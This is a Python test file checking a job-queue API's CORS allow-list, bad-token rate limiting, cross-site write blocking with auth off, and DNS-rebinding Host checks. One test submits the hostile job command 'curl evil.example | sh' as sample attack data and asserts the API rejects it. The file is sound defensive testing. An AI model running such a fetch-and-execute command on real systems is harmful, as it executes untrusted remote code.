"""CORS allow-list, the 429 that stops token guessing without locking out valid tokens, and
no cross-site writes with auth off."""

from __future__ import annotations

import pytest

from tests.api.conftest import MakeApi
from tests.api.harness import Api


async def test_only_allow_listed_origins_get_cors_headers(make_api: MakeApi) -> None:
    api = await make_api(cors_origins="https://ops.example.com, https://b.example.com")
    allowed = await api.get("/api/queues", headers={"Origin": "https://ops.example.com"})
    assert allowed.status == 200
    assert allowed.headers["Access-Control-Allow-Origin"] == "https://ops.example.com"
    other = await api.get("/api/queues", headers={"Origin": "https://evil.example.com"})
    assert other.status == 200 and "Access-Control-Allow-Origin" not in other.headers
    preflight = await api.call("OPTIONS", "/api/jobs", token=None, headers={
        "Origin": "https://b.example.com", "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization, content-type"})
    assert preflight.status == 204
    assert "Authorization" in preflight.headers["Access-Control-Allow-Headers"]
    refused = await api.call("OPTIONS", "/api/jobs", token=None, headers={
        "Origin": "https://evil.example.com", "Access-Control-Request-Method": "POST"})
    assert refused.status == 403 and refused.body["error"] == "forbidden"


async def test_no_cross_origin_access_unless_configured(make_api: MakeApi) -> None:
    api = await make_api()
    reply = await api.get("/api/queues", headers={"Origin": "https://ops.example.com"})
    assert reply.status == 200 and "Access-Control-Allow-Origin" not in reply.headers


async def test_repeated_bad_tokens_get_429_with_retry_after(make_api: MakeApi) -> None:
    api = await make_api(auth_failures_per_minute=5)
    for n in range(5):
        bad = await api.get("/api/queues", token=f"lha_guess{n}")
        assert bad.status == 401
    blocked = await api.get("/api/queues", token="lha_guess-more")
    assert blocked.status == 429 and blocked.body["error"] == "rate_limited"
    assert int(blocked.headers["Retry-After"]) >= 1


async def test_a_valid_token_is_never_refused_by_the_limiter(make_api: MakeApi) -> None:
    """One revoked agent behind the fleet's shared address must not lock the fleet out."""
    api = await make_api(auth_failures_per_minute=30)
    worker = await api.register("w-nat", [])
    for n in range(1000):
        assert (await api.get("/api/queues", token=f"lha_guess{n}")).status in (401, 429)
    assert (await api.get("/api/queues", token="lha_guess")).status == 429
    assert (await api.get("/api/queues")).status == 200  # the admin token
    assert (await worker.post("/api/workers/heartbeat")).status == 200  # a stored token
    assert (await api.get("/api/queues", token="lha_still-guessing")).status == 429


async def test_successful_calls_do_not_count_toward_the_limit(make_api: MakeApi) -> None:
    api = await make_api(auth_failures_per_minute=3)
    for _ in range(20):
        assert (await api.get("/api/queues")).status == 200
    assert (await api.get("/api/queues", token="nope")).status == 401


async def test_with_auth_off_a_cross_site_page_cannot_submit(open_api: Api) -> None:
    """A page on another site can POST text/plain or a form without a preflight; neither
    reaches the API, and nor does anything it sends with its Origin."""
    job = {"command": "curl evil.example | sh"}
    plain = await open_api.post("/api/jobs", data='{"command": "curl evil.example | sh"}',
                                headers={"Content-Type": "text/plain"})
    assert (plain.status, plain.body["error"]) == (415, "unsupported_media_type")
    form = await open_api.post("/api/jobs", data="command=x", headers={
        "Content-Type": "application/x-www-form-urlencoded"})
    assert form.status == 415
    untyped = await open_api.post("/api/jobs", data='{"command": "x"}')
    assert untyped.status == 415
    cross = await open_api.post("/api/jobs", job, headers={"Origin": "https://evil.example"})
    assert (cross.status, cross.body["error"]) == (403, "origin_forbidden")
    bodyless = await open_api.post("/api/workflows/ci-1/run",
                                   headers={"Origin": "https://evil.example"})
    assert bodyless.status == 403
    assert (await open_api.get("/api/jobs", params={"queue": "default"})).body["jobs"] == []


@pytest.mark.parametrize("origin", ["same", "listed"])
async def test_with_auth_off_own_pages_and_listed_origins_still_write(
        make_api: MakeApi, origin: str) -> None:
    api = await make_api(auth=False, cors_origins="https://ops.example.com")
    host = api.client.make_url("/").origin()
    sent = str(host) if origin == "same" else "https://ops.example.com"
    made = await api.post("/api/jobs", {"command": "make"}, headers={"Origin": sent})
    assert made.status == 201, made.text
    yaml = await api.post("/api/workflows", data="name: y\njobs:\n  a:\n    run: make\n",
                          headers={"Content-Type": "application/yaml", "Origin": sent})
    assert yaml.status == 201, yaml.text
    cancelled = await api.post(f"/api/jobs/{made.body['id']}/cancel", headers={"Origin": sent})
    assert cancelled.status == 202, cancelled.text
    assert (await api.delete("/api/workers/none", headers={"Origin": sent})).status == 404


async def test_with_auth_on_tokens_not_content_types_guard_writes(api: Api) -> None:
    reply = await api.post("/api/jobs", data='{"command": "make"}',
                           headers={"Content-Type": "text/plain"})
    assert reply.status == 201, reply.text


async def test_with_auth_off_a_loopback_server_ignores_rebound_host_names(open_api: Api) -> None:
    """A page whose own name was rebound to 127.0.0.1 is same-origin by its Origin; the Host it
    sends is still its own name."""
    rebound = await open_api.post("/api/jobs", {"command": "x"}, headers={
        "Host": "evil.example:8080", "Origin": "http://evil.example:8080"})
    assert (rebound.status, rebound.body["error"]) == (403, "host_forbidden")
    assert (await open_api.get("/api/queues", headers={"Host": "evil.example"})).status == 403
    local = await open_api.post("/api/jobs", {"command": "x"}, headers={
        "Host": "localhost:8080", "Origin": "http://localhost:8080"})
    assert local.status == 201, local.text


async def test_a_request_without_credentials_always_gets_401_never_429(make_api: MakeApi) -> None:
    """Sending no token guesses nothing: past the limit it still learns it must authenticate."""
    api = await make_api(auth_failures_per_minute=2)
    for n in range(3):
        assert (await api.get("/api/queues", token=f"lha_guess{n}")).status in (401, 429)
    assert (await api.get("/api/queues", token="lha_guess")).status == 429
    for _ in range(5):
        missing = await api.get("/api/queues", token=None)
        assert missing.status == 401 and missing.body["error"] == "unauthorized"
        assert missing.headers["WWW-Authenticate"] == "Bearer"
